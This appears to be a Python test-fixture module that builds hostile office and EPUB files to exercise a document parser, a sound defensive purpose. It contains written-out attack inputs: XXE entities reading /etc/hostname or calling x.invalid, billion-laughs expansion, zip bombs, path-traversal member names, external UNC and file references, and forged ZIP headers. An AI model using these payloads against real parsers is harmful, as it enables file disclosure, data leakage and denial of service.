"""Hostile ZIP formats: bombs, entities, traversal, references outside, towers, lies."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable

from tests.fakes import hostile, office
from tests.fakes.documents import docx, docx_of, heading, para, word, zipped

Maker = Callable[[random.Random], bytes]
NAMES = ("a.docx", "a.odt", "a.xlsx", "a.pptx", "a.epub")
SECRET = "/etc/hostname"


def _good(name: str) -> bytes:
    made: dict[str, Callable[[], bytes]] = {
        "a.docx": lambda: docx(heading("H") + para("words")),
        "a.odt": lambda: office.odt(office.h("H") + office.p("words")),
        "a.xlsx": lambda: office.xlsx({"S": office.sheet(office.row(1, office.words("A1", "x")))}),
        "a.pptx": lambda: office.pptx([office.slide(office.shape(office.paragraph("x")))]),
        "a.epub": lambda: office.epub({"a.xhtml": office.chapter("<p>words</p>")}),
    }
    return made[name]()


_MAIN = {
    "a.docx": "word/document.xml", "a.odt": "content.xml", "a.xlsx": "xl/sheet1.xml",
    "a.pptx": "ppt/slides/slide1.xml", "a.epub": "OEBPS/a.xhtml",
}  # fmt: skip


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _packed(files: dict[str, bytes], *, packs: bool = True) -> bytes:
    out = io.BytesIO()
    how = zipfile.ZIP_DEFLATED if packs else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _main_of(name: str, files: dict[str, bytes]) -> str:
    wanted = _MAIN[name]
    return wanted if wanted in files else max(files, key=lambda each: len(files[each]))


def _bomb(name: str) -> Maker:
    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        size = chance.choice((80, 200, 400)) * 1_000_000
        target = chance.choice((_main_of(name, files), "[Content_Types].xml", "mimetype", "x.xml"))
        files[target] = chance.choice((b" ", b"<a>", b"x")) * (size // 3)
        return _packed(files)

    return make


def _many_members(name: str) -> Maker:
    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        for number in range(chance.choice((5_000, 40_000))):
            files[f"more/{number}.xml"] = b"<x/>"
        return _packed(files, packs=False)

    return make


_ENTITIES = (
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "http://x.invalid/leak">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.invalid/p"> %p; <!ENTITY e "x">]>',
    '<!DOCTYPE x SYSTEM "http://x.invalid/x.dtd" [<!ENTITY e "x">]>',
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "<!ENTITY e '&a11;'>]>",
    "<!DOCTYPE x [<!ENTITY e '" + "x" * 60_000 + "'>]>",
)


def _entities(name: str) -> Maker:
    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        main = _main_of(name, files)
        text = files[main].decode()
        for words in (">words<", ">x<", ">H<"):
            text = text.replace(words, ">&e;" * chance.choice((1, 1, 50)) + "<")
        head = text.find("?>") + 2 if text.startswith("<?xml") else 0
        files[main] = (text[:head] + chance.choice(_ENTITIES) + text[head:]).encode()
        return _packed(files)

    return make


_ELSEWHERE = ("../../../../tmp/slm-escaped", "/tmp/slm-escaped", "..\\..\\slm-escaped", "C:\\slm",
              "a/../../slm-escaped", "slm\x00x", "x" * 60_000)  # fmt: skip


def _traversal(name: str) -> Maker:
    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        for target in chance.sample(_ELSEWHERE, 3):
            files[target[:60_000]] = b"escaped"
        text = chance.choice(_ELSEWHERE[:5])
        for member in list(files):
            if member.endswith((".rels", ".opf", "container.xml")) and chance.random() < 0.7:
                files[member] = files[member].replace(b'Target="', f'Target="{text}/'.encode(), 1)
                files[member] = files[member].replace(b'href="', f'href="{text}/'.encode(), 1)
        return _packed(files)

    return make


def _outside(name: str) -> Maker:
    """References to addresses and shares, which whoever follows them would tell of the reader."""

    def make(chance: random.Random) -> bytes:
        address = chance.choice(
            ("http://x.invalid/t.png", "file:///etc/hostname", "//host/share/x", "\\\\h\\s\\x")
        )
        files = _members(_good(name))
        kind = chance.choice(("image", "attachedTemplate", "oleObject", "frame", "hyperlink"))
        relation = f'<Relationship Id="rX" Type="http://x/{kind}" Target="{address}" TargetMode='
        for member in list(files):
            files[member] = files[member].replace(
                b"</Relationships>", f'{relation}"External"/></Relationships>'.encode()
            )
            files[member] = files[member].replace(
                b"<body>", f'<body><img src="{address}"/><object data="{address}"/>'.encode()
            )
        return _packed(files)

    return make


def _tower(name: str) -> Maker:
    tags = {
        "a.docx": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        "a.odt": ("<text:list><text:list-item>", "</text:list-item></text:list>"),
        "a.xlsx": ("<s:row>", "</s:row>"),
        "a.pptx": ("<p:grpSp>", "</p:grpSp>"),
        "a.epub": ("<div><ul><li>", "</li></ul></div>"),
    }

    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        main, (begin, end) = _main_of(name, files), tags[name]
        depth = chance.choice((150, 3_000, 60_000))
        closes = chance.random() < 0.5
        tower = begin * depth + "deep" + (end * depth if closes else "")
        text = files[main].decode()
        place = max(text.find("<w:p>"), text.find("<text:h"), text.find("<s:row"),
                    text.find("<p:sp>"), text.find("<p>"))  # fmt: skip
        files[main] = (text[:place] + tower + text[place:]).encode()
        return _packed(files)

    return make


def _lying(name: str) -> Maker:
    """Sizes, sums, flags and places of the ZIP itself that are not true."""

    def make(chance: random.Random) -> bytes:
        data = bytearray(_good(name))
        for signature, fields in ((b"PK\x01\x02", (8, 16, 20, 24, 42)), (b"PK\x03\x04", (6, 14))):
            place = data.find(signature)
            while place >= 0:
                if chance.random() < 0.4:
                    value = chance.choice((0, 1, 0xFFFFFFFF, chance.randrange(1 << 32)))
                    at = place + chance.choice(fields)
                    data[at : at + 4] = struct.pack("<I", value)
                place = data.find(signature, place + 4)
        return bytes(data)

    return make


def _broken(name: str) -> Maker:
    def make(chance: random.Random) -> bytes:
        files = _members(_good(name))
        member = chance.choice(sorted(files))
        files[member] = hostile.mutated(files[member] or b"x", chance)
        return _packed(files)

    return make


def _cells(chance: random.Random) -> bytes:
    """Cells that say they lie far away, and words that are not there."""
    place = chance.choice(("XFD1048576", "ZZZZZ9999999999", "A0", "A-1", "1A", ""))
    cells = office.words("A1", "x") + office.cell(place, "<v>99999999</v>", "s")
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    row = office.row(chance.choice((1, 1_048_576, 2**31)), cells)
    return office.xlsx({"S": office.sheet(row, after=merged)})


def _loops(chance: random.Random) -> bytes:
    """A book whose contents lead to themselves."""
    order = ["a.xhtml"] * chance.choice((3, 5_000))
    own = office.navigation(*[("nav.xhtml", "again")] * chance.choice((2, 20_000)))
    chapters = {"a.xhtml": office.chapter("<p>x</p>")}
    return office.epub(chapters, order=order, parts={"OEBPS/nav.xhtml": own})


def _nested(chance: random.Random) -> bytes:
    inner = docx(para("inner"))
    for _ in range(chance.choice((2, 30))):
        inner = _packed({"a.docx": inner, "word/document.xml": inner})
    return inner


def _numbering(chance: random.Random) -> bytes:
    level = chance.choice((-1, 9, 2**31, 10**30))
    body = para("x", f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{level}"/></w:numPr>')
    style = '<w:style w:styleId="A"><w:basedOn w:val="A"/></w:style>'
    return docx_of(word("document", f"<w:body>{body * 50}</w:body>"), styles=word("styles", style))


_MAKERS: dict[str, Callable[[str], Maker]] = {
    "bomb": _bomb,
    "many members": _many_members,
    "entities": _entities,
    "traversal": _traversal,
    "outside": _outside,
    "tower": _tower,
    "lying": _lying,
    "broken": _broken,
}
FAMILIES: dict[str, tuple[str, Maker]] = {
    **{
        f"{name[2:]}: {family}": (name, make(name))
        for name in NAMES
        for family, make in _MAKERS.items()
    },
    "xlsx: cells": ("a.xlsx", _cells),
    "epub: loops": ("a.epub", _loops),
    "docx: nested": ("a.docx", _nested),
    "docx: numbering": ("a.docx", _numbering),
    "docx: a plain ZIP": ("a.docx", lambda chance: zipped({"x": "y" * chance.randrange(9)})),
}
